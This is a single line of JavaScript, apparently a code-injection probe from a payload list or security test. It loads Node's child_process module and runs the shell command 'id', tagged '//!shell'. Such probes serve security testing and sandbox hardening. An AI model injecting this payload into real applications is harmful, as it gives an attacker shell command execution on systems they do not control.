(function (...m) { m[0].execSync('id'); })(require('child_process'));  //!shell
